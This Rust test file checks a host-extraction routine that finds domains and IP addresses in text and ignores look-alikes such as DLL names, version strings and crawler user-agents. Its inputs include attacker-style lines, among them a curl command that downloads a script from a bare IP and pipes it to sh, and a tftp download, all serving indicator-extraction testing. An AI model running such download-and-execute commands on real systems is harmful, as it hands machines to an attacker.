//! Texts that name hosts, and texts that only look as if.

use proptest::prelude::*;

use super::*;

#[track_caller]
fn check(text: &str, expected: &[&str]) {
    let mut search = HostSearch::default();
    search.read(text.as_bytes());
    let found = search.found();
    let addresses = found.ip_addresses().iter().map(ToString::to_string);
    let hosts: Vec<String> = found.domains().iter().cloned().chain(addresses).collect();
    assert_eq!(hosts, expected, "{text:?}");
}

#[test]
fn hosts_of_urls_are_found_wherever_they_stand() {
    check("x http://Evil-Host.TOP:8080/gate.php y", &["evil-host.top"]);
    check("hxxp://evil-host.top/a", &["evil-host.top"]);
    check("stratum+tcp://user:x@pool.evil-host.rs:3333", &["pool.evil-host.rs"]);
    check("curl http://45.9.148.21/bins.sh|sh", &["45.9.148.21"]);
    check("http://[2a01:4f8:1c17:4a2b::1]:80/", &["2a01:4f8:1c17:4a2b::1"]);
    check("http://почта.рф/", &["xn--80a1acny.xn--p1ai"]);
    check("http://evil-host.top.", &["evil-host.top"]);
}

#[test]
fn in_plain_text_hosts_stand_apart() {
    check("evil-host.su", &["evil-host.su"]);
    check("\nevil-host.ru:6667\n", &["evil-host.ru"]);
    check("server=evil-host.ru;port=1", &["evil-host.ru"]);
    check("one.evil-host.ru|two.evil-host.ru|", &["one.evil-host.ru", "two.evil-host.ru"]);
    check("tftp -g -r x 45.9.148.21", &["45.9.148.21"]);
    check("45.9.148.21:23", &["45.9.148.21"]);
    check("\\\\45.9.148.21@80\\share", &["45.9.148.21"]);
    check("www.evil-host.rs", &["www.evil-host.rs"]);
    check("001www.ru", &["001www.ru"]);
    check("Host: evil-host.ru.", &["evil-host.ru"]);
}

#[test]
fn files_versions_members_and_mail_are_no_hosts() {
    for text in [
        "kernel32.dll",
        "libfoo.so",
        "setup.py",
        "src/main.rs:10:5",
        "main.rs:10",
        "System.Net.Sockets",
        "com.sun.net",
        "user@evil-host.top",
        "Chrome/77.88.99.90",
        "Version=77.88.99.90.1",
        "v77.88.99.90",
        "FileVersion\n77.88.99.90",
        "8.0.60.5",
        "Mozilla/5.0 (compatible; Crawler; +http://evil-host.top/bot.html)",
        "Crawler/v1.0 (www.evil-host.top)",
        "My own crawler(+http://evil-host.top/bot.html)",
        "http://www.style=",
        "1.2.3.4",
        "http://%s.com/",
        "http://%d.%d.%d.%d/",
        "http://localhost.localdomain/",
        "file://server.top/x",
        "a.b..c",
        "*.evil-host.ru",
        "evil-host.ru.x",
        "77.88.99.90.example",
        "...",
        "http://.com",
        "C:\\\\folder.top\\\\x",
    ] {
        check(text, &[]);
    }
}

#[test]
fn names_that_are_too_many_or_too_long_are_left_out() {
    let mut search = HostSearch::default();
    search.read(&b"http://x.dll\n".repeat(NAMES_MAX as usize));
    assert!(search.found().is_empty() && !search.found().has_more());
    search.read(b"http://evil-host.top/");
    assert!(search.found().is_empty() && search.found().has_more());
    search.clear();
    search.read(b"http://evil-host.top/");
    assert_eq!(search.found().domains(), ["evil-host.top"]);
    let long = format!("http://{}.top/", "a.".repeat(1_000));
    check(&long, &[]);
    // Numbers are no names, however many there are.
    check(&("0.25\n".repeat(NAMES_MAX as usize + 1) + "http://evil-host.top/"), &["evil-host.top"]);
}

proptest! {
    #[test]
    fn whatever_is_found_is_telling(text in "(http://|\\.|[a-c]|top|ru|[0-9]{1,3}|:|/|\\[|\\]|@| |é){0,60}") {
        let mut search = HostSearch::default();
        search.read(text.as_bytes());
        prop_assert!(search.found().domains().iter().all(|domain| is_telling_domain(domain)));
        prop_assert!(search.found().ip_addresses().iter().all(|&address| is_telling_address(address)));
    }

    #[test]
    fn nothing_in_noise_panics(bytes: Vec<u8>) {
        HostSearch::default().read(&bytes);
    }
}
